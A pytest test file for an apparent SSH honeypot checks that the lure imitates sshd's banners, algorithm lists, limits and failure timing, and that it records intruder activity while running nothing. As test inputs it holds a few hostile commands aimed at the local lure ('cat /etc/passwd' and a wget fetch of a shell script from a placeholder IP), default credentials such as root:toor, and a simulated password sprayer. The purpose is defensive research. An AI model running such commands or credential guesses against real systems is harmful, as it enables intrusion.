"""The SSH lure in process: identification checks, wire lists, limits and the accept policy."""

from __future__ import annotations

import asyncio
import contextlib
import dataclasses
import math
import random
import struct
from collections.abc import AsyncIterator
from importlib import resources
from pathlib import Path
from typing import Any

import asyncssh
import pytest
from tests.conftest import Captured

from honeypods.core.guard import Limits, Running
from honeypods.core.settings import ConfigError, load
from honeypods.ssh import moduli, timing, wire
from honeypods.ssh import options as ssh_options
from honeypods.ssh import persona as ssh_persona
from honeypods.ssh import server as ssh
from honeypods.ssh.config import SshConfig
from honeypods.ssh.policy import Policy

TELLS = (b"asyncssh", b"python", b"honeypod")


@pytest.fixture(scope="module")
def host_key_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    directory = tmp_path_factory.mktemp("hostkeys")
    for name, alg, bits in ssh_persona.HOST_KEYS:
        key = (
            asyncssh.generate_private_key(alg, key_size=bits)
            if alg == "ssh-rsa"
            else asyncssh.generate_private_key(alg)
        )
        key.write_private_key(str(directory / name))
    return directory


@pytest.fixture
async def lure(host_key_dir: Path, request: pytest.FixtureRequest) -> AsyncIterator[Running]:
    overrides: dict[str, Any] = getattr(request, "param", {})
    config = SshConfig(port=0, host_key_dir=str(host_key_dir), password_fail_delay=0.0, **overrides)
    running = await ssh.start(config, limits=Limits(), host="127.0.0.1")
    try:
        yield running
    finally:
        await running.stop()


def _port(running: Running) -> int:
    return int(running.addresses[0].rsplit(":", 1)[1])


async def _read_all(reader: asyncio.StreamReader, timeout: float = 10.0) -> bytes:
    out = b""
    async with asyncio.timeout(timeout):
        while chunk := await reader.read(65536):
            out += chunk
    return out


async def _exchange(running: Running, data: bytes) -> bytes:
    reader, writer = await asyncio.open_connection("127.0.0.1", _port(running))
    writer.write(data)
    try:
        return await _read_all(reader)
    finally:
        writer.close()


def _banner() -> bytes:
    return ssh_persona.DEFAULT.server_version.encode() + b"\r\n"


async def _read_packet(reader: asyncio.StreamReader) -> bytes:
    (length,) = struct.unpack(">I", await reader.readexactly(4))
    body = await reader.readexactly(length)
    return body[1 : len(body) - body[0]]


def _name_lists(payload: bytes, count: int) -> list[list[str]]:
    pos, out = 17, []
    for _ in range(count):
        (n,) = struct.unpack(">I", payload[pos : pos + 4])
        out.append(payload[pos + 4 : pos + 4 + n].decode().split(","))
        pos += 4 + n
    return out


@pytest.mark.parametrize("name", list(ssh_persona.PERSONAS))
async def test_banner_and_kexinit_are_exactly_the_persona(host_key_dir: Path, name: str) -> None:
    # Each persona's banner and lists, in order: the 8.4p1 persona alone on today's main.
    p = ssh_persona.PERSONAS[name]
    config = SshConfig(port=0, host_key_dir=str(host_key_dir), persona=name)
    lure = await ssh.start(config, limits=Limits(), host="127.0.0.1")
    try:
        reader, writer = await asyncio.open_connection("127.0.0.1", _port(lure))
        assert await reader.readline() == p.server_version.encode() + b"\r\n"
        writer.write(b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u6\r\n")
        payload = await _read_packet(reader)
        writer.close()
    finally:
        await lure.stop()
    assert payload[0] == 20  # SSH_MSG_KEXINIT
    kex, hostkey, enc_cs, enc_sc, mac_cs, mac_sc, comp_cs, comp_sc = _name_lists(payload, 8)
    assert kex == [*p.kex_algs, *p.kex_markers]
    assert hostkey == list(p.host_key_algs)
    assert enc_cs == enc_sc == list(p.ciphers)
    assert mac_cs == mac_sc == list(p.macs)
    assert comp_cs == comp_sc == list(p.compression)
    assert not any(tell in payload.lower() for tell in TELLS)


@pytest.mark.parametrize(
    ("sent", "answer"),
    [
        (b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", ssh_persona.IDENT_INVALID),
        (b"SSH-1.5-PuTTY\r\n", ssh_persona.IDENT_MAJOR_DIFFERS),
        (b"SSH-3.0-x\n", ssh_persona.IDENT_MAJOR_DIFFERS),
        (b"SSH-2.0-\r\n", ssh_persona.IDENT_INVALID),
        (b"SSH-2.0-a\0b\r\n", ssh_persona.IDENT_INVALID),
        (b"SSH-2.0-a\rb", ssh_persona.IDENT_INVALID),
        (b"A" * 9000, ssh_persona.IDENT_INVALID),
        (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(64), ssh_persona.IDENT_INVALID),
    ],
)
async def test_bad_identification_gets_sshds_answer(
    lure: Running, captured: Captured, sent: bytes, answer: bytes
) -> None:
    assert await _exchange(lure, sent) == _banner() + answer
    await captured.wait_for(lambda ev: any(e["event.action"] == "session.closed" for e in ev))
    (version,) = captured.of("ssh.client_version")
    assert version["ssh.invalid"] is True
    assert captured.of("session.closed")[0]["event.reason"] == "protocol_error"
    assert captured.of("ssh.disconnect")[0]["ssh.disconnect_reason"] == answer.decode().strip()


async def test_probe_identification_is_dropped_silently(lure: Running, captured: Captured) -> None:
    assert await _exchange(lure, b"SSH-2.0-Probe-scan\r\n") == _banner()
    await captured.wait_for(lambda ev: any(e["event.action"] == "session.closed" for e in ev))
    assert captured.of("ssh.client_version")[0]["ssh.client_version"] == "SSH-2.0-Probe-scan"


@pytest.mark.parametrize("length", [0xFFFFFFF0, 256 * 1024 + 1, 0, 4])
async def test_bad_packet_length_closes_without_a_word(
    lure: Running, captured: Captured, length: int
) -> None:
    # sshd queues "Packet corrupt" and exits before sending it (test_ssh_personas compares the
    # real one): nothing follows the KEXINIT.
    reader, writer = await asyncio.open_connection("127.0.0.1", _port(lure))
    await reader.readline()
    writer.write(b"SSH-2.0-x\r\n" + struct.pack(">I", length) + bytes(4))
    await _read_packet(reader)  # KEXINIT
    rest = await _read_all(reader)
    writer.close()
    assert rest == b""
    await captured.wait_for(lambda ev: any(e["event.action"] == "session.closed" for e in ev))
    assert captured.of("session.closed")[0]["event.reason"] == "protocol_error"
    assert captured.of("ssh.disconnect")[0]["ssh.disconnect_reason"] == "Packet corrupt"


@pytest.mark.parametrize("lure", [{"max_startups": "2"}], indirect=True)
async def test_max_startups_drops_before_the_banner(lure: Running, captured: Captured) -> None:
    held = []
    for _ in range(2):
        reader, writer = await asyncio.open_connection("127.0.0.1", _port(lure))
        assert await reader.readline() == _banner()
        held.append(writer)
    assert await _exchange(lure, b"") == b""
    await captured.wait_for(lambda ev: any(e["event.action"] == "session.closed" for e in ev))
    assert captured.of("session.closed")[0]["event.reason"] == "over_capacity"
    for writer in held:
        writer.close()


@pytest.mark.parametrize("lure", [{"login_grace_time": 0.5}], indirect=True)
async def test_login_grace_time_closes_without_a_message(lure: Running, captured: Captured) -> None:
    reader, writer = await asyncio.open_connection("127.0.0.1", _port(lure))
    assert await _read_all(reader) == _banner()
    writer.close()
    await captured.wait_for(lambda ev: any(e["event.action"] == "session.closed" for e in ev))
    assert captured.of("session.closed")[0]["event.reason"] == "deadline"
    assert captured.of("ssh.disconnect")[0]["ssh.disconnect_reason"] == "LoginGraceTime exceeded"


async def _client(running: Running, **kwargs: Any) -> asyncssh.SSHClientConnection:
    return await asyncssh.connect(
        "127.0.0.1", _port(running), known_hosts=None, client_keys=None, agent_path=None,
        connect_timeout=30, **kwargs,
    )  # fmt: skip


@pytest.mark.parametrize("lure", [{"accept": ("root:toor",)}], indirect=True)
async def test_accepted_login_records_requests_and_runs_nothing(
    lure: Running, captured: Captured
) -> None:
    async with await _client(lure, username="root", password="toor") as conn:
        result = await conn.run("uname -a; cat /etc/passwd", encoding=None)
        assert result.exit_status == 127
        assert result.stderr == b"sh: 1: uname: not found\n"
        process = await conn.create_process(encoding=None)
        process.stdin.write(b"wget http://203.0.113.9/x.sh\nexit\n")
        output = await asyncio.wait_for(process.stdout.read(), 10)
        assert b"sh: 1: wget: not found\n" in output
        with pytest.raises(asyncssh.ChannelOpenError):
            await conn.start_sftp_client()
        with pytest.raises(asyncssh.ChannelOpenError) as refused:
            await conn.open_connection("10.0.0.5", 5432)
        assert refused.value.reason == "Connection refused"
        with pytest.raises(asyncssh.ChannelOpenError) as prohibited:
            await conn.open_tun()
        assert (prohibited.value.code, prohibited.value.reason, prohibited.value.lang) == (
            asyncssh.OPEN_ADMINISTRATIVELY_PROHIBITED,
            "open failed",
            "",
        )
    (login,) = captured.of("ssh.login")
    assert login["event.outcome"] == "success"
    requests = [(e["ssh.request"], e.get("ssh.command")) for e in captured.of("ssh.request")]
    assert ("exec", "uname -a; cat /etc/passwd") in requests
    assert ("shell", None) in requests
    assert ("input", "wget http://203.0.113.9/x.sh") in requests
    assert ("subsystem", "sftp") in requests
    assert ("direct-tcpip", "10.0.0.5:5432") in requests


@pytest.mark.parametrize("lure", [{"keyboard_interactive": True}], indirect=True)
async def test_keyboard_interactive_is_recorded(lure: Running, captured: Captured) -> None:
    with pytest.raises(asyncssh.PermissionDenied):
        await _client(
            lure, username="pi", password="raspberry", preferred_auth="keyboard-interactive"
        )
    (login,) = captured.of("ssh.login")
    assert login["ssh.auth_method"] == "keyboard-interactive"
    assert login["ssh.password"] == "raspberry"


async def test_wrong_password_many_times_hits_max_auth_tries(
    lure: Running, captured: Captured
) -> None:
    # asyncssh's client offers each password-prompt once; drive the server with a raw client
    # that keeps answering until the server hangs up.
    class Stubborn(asyncssh.SSHClient):
        tries = 0

        def password_auth_requested(self) -> str | None:
            Stubborn.tries += 1
            return f"guess{Stubborn.tries}" if Stubborn.tries <= 10 else None

    with pytest.raises(asyncssh.DisconnectError) as info:
        await _client(lure, username="oracle", client_factory=Stubborn)
    assert info.value.reason == "Too many authentication failures"
    assert info.value.code == 2
    logins = captured.of("ssh.login")
    assert [e["ssh.password"] for e in logins] == [f"guess{n}" for n in range(1, 7)]


def test_hassh_input_is_kex_ciphers_macs_compression() -> None:
    def names(*items: str) -> bytes:
        text = ",".join(items).encode()
        return struct.pack(">I", len(text)) + text

    payload = (
        b"\x14" + bytes(16) + names("curve25519-sha256", "ext-info-c") + names("ssh-ed25519")
        + names("aes128-ctr") + names("aes256-ctr") + names("hmac-sha2-256") + names("hmac-sha1")
        + names("none") + names("zlib") + names() + names() + b"\0" + bytes(4)
    )  # fmt: skip
    assert (
        wire.hassh_algorithms(payload)
        == "curve25519-sha256,ext-info-c;aes128-ctr;hmac-sha2-256;none"
    )
    assert wire.hassh_algorithms(payload[:30]) is None


def test_policy_drops_like_sshd() -> None:
    config = SshConfig(max_startups="10:30:100")
    policy = Policy(config)
    policy.startups = 9
    assert not policy.drop_startup()
    policy.startups = 100
    assert policy.drop_startup()
    assert Policy(dataclasses.replace(config, max_startups="5")).full == 5


@pytest.mark.parametrize(
    "env",
    [
        {"HONEYPODS_SSH_MAX_STARTUPS": "10:30"},
        {"HONEYPODS_SSH_MAX_STARTUPS": "20:30:10"},
        {"HONEYPODS_SSH_SERVER_VERSION": "OpenSSH_8.4"},
        {"HONEYPODS_SSH_MAX_AUTH_TRIES": "0"},
        {"HONEYPODS_SSH_HOST_KEY_DIR": "/nonexistent/keys"},
    ],
)
def test_bad_ssh_settings_are_refused(env: dict[str, str]) -> None:
    with pytest.raises(ConfigError):
        load(["ssh"], env=env)


async def test_long_identification_is_accepted_as_sshd_does(
    lure: Running, captured: Captured
) -> None:
    version = b"SSH-2.0-" + b"v" * 600
    reader, writer = await asyncio.open_connection("127.0.0.1", _port(lure))
    await reader.readline()
    writer.write(version + b"\r\n")
    payload = await _read_packet(reader)
    writer.close()
    assert payload[0] == 20  # SSH_MSG_KEXINIT
    assert captured.of("ssh.client_version")[0]["ssh.client_version"] == version.decode()


async def test_change_of_username_is_refused_as_sshd_does(
    lure: Running, captured: Captured
) -> None:
    class Switcher(asyncssh.SSHClient):
        conn: asyncssh.SSHClientConnection | None = None
        tries = 0

        def connection_made(self, conn: asyncssh.SSHClientConnection) -> None:
            Switcher.conn = conn

        def password_auth_requested(self) -> str | None:
            Switcher.tries += 1
            if Switcher.tries == 2 and Switcher.conn is not None:
                # What a sprayer reusing one connection for the next user would send.
                Switcher.conn._username = "bob"
            return "secret" if Switcher.tries <= 3 else None

    with pytest.raises(asyncssh.DisconnectError) as info:
        await _client(lure, username="alice", client_factory=Switcher)
    assert info.value.reason == (
        "Change of username or service not allowed: (alice,ssh-connection) -> (bob,ssh-connection)"
    )
    assert [e["user.name"] for e in captured.of("ssh.login")] == ["alice"]


async def test_random_input_never_breaks_the_lure(lure: Running, captured: Captured) -> None:
    rng = random.Random(1234)
    payloads = []
    for n in range(120):
        body = rng.randbytes(rng.randrange(1, 4096))
        payloads.append(body if n % 2 else b"SSH-2.0-fuzz\r\n" + body)

    async def one(data: bytes) -> None:
        reader, writer = await asyncio.open_connection("127.0.0.1", _port(lure))
        writer.write(data)
        with contextlib.suppress(ConnectionError, TimeoutError):
            async with asyncio.timeout(0.5):
                await reader.read(65536)
        writer.close()

    for start in range(0, len(payloads), 10):
        await asyncio.gather(*(one(p) for p in payloads[start : start + 10]))
    await captured.wait_for(lambda ev: len(captured.of("session.closed")) == len(payloads), 30)
    assert len(captured.of("session.connect")) == len(payloads)
    assert not captured.of("honeypods.error")
    reader, writer = await asyncio.open_connection("127.0.0.1", _port(lure))
    assert await reader.readline() == _banner()
    writer.close()


def test_this_machine_can_offer_every_persona_algorithm() -> None:
    # umac needs libnettle (scripts/install-deps.sh); without it the lists would differ.
    for p in ssh_persona.PERSONAS.values():
        assert ssh_options.missing_algorithms(p) == [], p.name
    assert ssh_options.available(["b", "a", "c"], [b"c", b"a"]) == ["a", "c"]


def test_unreadable_host_key_is_a_config_error(tmp_path: Path) -> None:
    (tmp_path / "ssh_host_ed25519_key").write_text("not a key\n")
    with pytest.raises(ConfigError, match="ssh_host_ed25519_key"):
        load(["ssh"], env={"HONEYPODS_SSH_HOST_KEY_DIR": str(tmp_path)})


@pytest.mark.parametrize(
    ("sent", "answer"),
    [
        (b"SSH-" + b"0" * 5000 + b"2.0-x\r\n", b""),
        (b"SSH-" + b"9" * 5000 + b".0-x\r\n", ssh_persona.IDENT_MAJOR_DIFFERS),
        (b"SSH-2." + b"1" * 5000 + b"-x\r\n", b""),
        (b"SSH--2.0-x\r\n", ssh_persona.IDENT_MAJOR_DIFFERS),
        (b"SSH-1.0099-x\r\n", b""),
    ],
)
def test_version_numbers_of_any_length_are_read_as_sscanf_reads_them(
    sent: bytes, answer: bytes
) -> None:
    # Python's int() refuses more than 4300 digits; sshd's %d reads leading zeros as nothing.
    got = wire.read_identification(sent)
    assert got is not None
    line, _rest, bad = got
    assert wire.check_identification(line, bad)[0] == answer


# -- DH group exchange: sshd's moduli and selection rule -------------------------------------------


def _bundled_groups() -> list[moduli.Group]:
    return moduli.parse(resources.files("honeypods.ssh").joinpath("moduli").read_text())


def test_the_bundled_moduli_hold_every_size_sshd_offers() -> None:
    groups = _bundled_groups()
    assert {g.size for g in groups} == {2048, 3072, 4096, 6144, 7680, 8192}
    assert all(g.p.bit_length() == g.size and g.p % 2 == 1 for g in groups)


@pytest.mark.parametrize(
    ("request_", "size"),
    [
        ((1024, 1024, 8192), 2048),  # never below DH_GRP_MIN, whatever the client asks
        ((1024, 2048, 8192), 2048),
        ((2048, 2049, 8192), 3072),  # the smallest size not below the wanted one
        ((2048, 3072, 8192), 3072),
        ((2048, 5000, 8192), 6144),
        ((2048, 7000, 7000), 6144),  # none above it within max: the largest below
        ((2048, 8192, 8192), 8192),
        ((2048, 9000, 16384), 8192),  # clamped to DH_GRP_MAX
        ((2100, 2200, 2500), 2048),  # nothing in range: RFC 3526's group 14 by max
        ((4000, 4050, 4090), 4096),  # nothing in range: group 16 by max
    ],
)
def test_group_exchange_picks_as_sshd_does(request_: tuple[int, int, int], size: int) -> None:
    groups = _bundled_groups()
    seen = set()
    for pick in range(16):
        choice = moduli.answer(groups, *request_, lambda n, pick=pick: pick % n)
        assert choice is not None
        got = choice if isinstance(choice, int) else choice.size
        assert got == size
        if not isinstance(choice, int):
            seen.add(choice.p)
    # Uniform among the file's groups of that size, not always the first.
    assert len(seen) in (0, 16)


@pytest.mark.parametrize(
    "request_", [(1024, 1024, 1024), (3072, 2048, 8192), (2048, 4096, 3072), (8192, 4096, 2048)]
)
def test_group_exchange_requests_sshd_refuses(request_: tuple[int, int, int]) -> None:
    assert moduli.answer(_bundled_groups(), *request_, lambda n: 0) is None


def test_moduli_lines_sshd_would_skip_are_skipped() -> None:
    (good,) = _bundled_groups()[:1]
    line = f"20220714110357 2 6 100 2047 {good.g:x} {good.p:X}"
    bad = [
        line.replace(" 2 6 ", " 4 6 ", 1),  # not a safe prime
        line.replace(" 2 6 ", " 2 1 ", 1),  # sieved only (composite flag)
        line.replace(" 100 ", " 0 ", 1),  # never tried
        line.replace(" 2047 ", " 2048 ", 1),  # size that is not the modulus'
        line + " extra",
        "garbage",
    ]
    assert moduli.parse("\n".join(["# comment", *bad, line])) == [good]


# -- failure timing: the model, and what the lure waits by it --------------------------------------


def test_minimum_time_doubles_the_user_delay_past_the_elapsed_time() -> None:
    assert timing.minimum_time(0.007, 0.0) == 0.007
    assert timing.minimum_time(0.007, 0.007) == 0.007
    assert timing.minimum_time(0.007, 0.008) == 0.014
    # A 2.1 s PAM check with a 5.5 ms minimum is answered at 5.5 ms * 2^9.
    assert timing.minimum_time(0.0055, 2.1) == pytest.approx(0.0055 * 512)


def test_user_delay_is_sshds_5_to_9_ms_stable_per_user() -> None:
    secret = b"s" * 16
    delays = [timing.user_delay(secret, f"user{i}") for i in range(200)]
    assert all(0.005 <= d < 0.005 + 2**32 / 1e12 for d in delays)
    assert len(set(delays)) == 200
    assert timing.user_delay(secret, "root") == timing.user_delay(secret, "root")
    assert timing.user_delay(secret, "root") != timing.user_delay(b"t" * 16, "root")


def test_pam_delay_is_libpams_per_second_variation_of_the_base() -> None:
    start = 1_700_000_000
    delays = [timing.pam_delay(2.0, start + s) for s in range(5000)]
    assert all(1.0 <= d < 3.0 for d in delays)
    # The mean of three uniform draws: most within +-20 %, the tails thin.
    assert 0.75 < sum(1.6 <= d <= 2.4 for d in delays) / len(delays) < 0.9
    assert timing.pam_delay(2.0, start) == timing.pam_delay(2.0, start)
    assert timing.pam_delay(0.0, start) == 0.0


class VirtualTime:
    """The policy's clock and sleep: every wait is recorded and advances the clock by itself."""

    def __init__(self) -> None:
        self.now = 1000.0
        self.waits: list[float] = []

    def clock(self) -> float:
        return self.now

    async def sleep(self, seconds: float) -> None:
        self.waits.append(seconds)
        self.now += seconds
        await asyncio.sleep(0)


async def _refused_waits(
    host_key_dir: Path, password: str, **config: Any
) -> tuple[list[float], Policy]:
    vt = VirtualTime()
    settings = SshConfig(port=0, host_key_dir=str(host_key_dir), **config)
    policy = Policy(settings, clock=vt.clock, wall=lambda: 1_700_000_000.5, sleep=vt.sleep)
    running = await ssh.start(settings, limits=Limits(), host="127.0.0.1", policy=policy)
    try:
        with pytest.raises(asyncssh.PermissionDenied):
            await asyncssh.connect(
                "127.0.0.1", _port(running), username="root", password=password,
                known_hosts=None, client_keys=None, agent_path=None, preferred_auth="password",
            )  # fmt: skip
    finally:
        await running.stop()
    return vt.waits, policy


async def test_an_empty_password_waits_no_pam_delay(host_key_dir: Path, captured: Captured) -> None:
    waits, policy = await _refused_waits(host_key_dir, "")
    # The connection's setup, the user's minimum for asyncssh's "none" and then for the empty
    # password: nothing of PAM's 2 s.
    d = policy.user_delay("root")
    assert waits == [timing.SETUP_DELAY, d, d]
    (login,) = captured.of("ssh.login")
    assert login["ssh.password"] == ""


async def test_a_listed_empty_password_is_still_refused(host_key_dir: Path) -> None:
    waits, _policy = await _refused_waits(host_key_dir, "", accept=("root:",))
    assert len(waits) == 3


async def test_a_wrong_password_waits_pam_then_the_doubled_minimum(host_key_dir: Path) -> None:
    waits, policy = await _refused_waits(host_key_dir, "wrong")
    pam = timing.pam_delay(2.0, 1_700_000_000)
    d = policy.user_delay("root")
    setup, none, first, rest = waits
    assert (setup, none, first) == (timing.SETUP_DELAY, d, pam)
    # Answered at the user's minimum doubled past PAM's time: d * 2^k, not PAM's time itself.
    answer = first + rest
    assert answer == pytest.approx(timing.minimum_time(d, pam))
    k = round(math.log2(answer / d))
    assert answer == pytest.approx(d * 2**k)
    assert d * 2 ** (k - 1) < pam <= answer
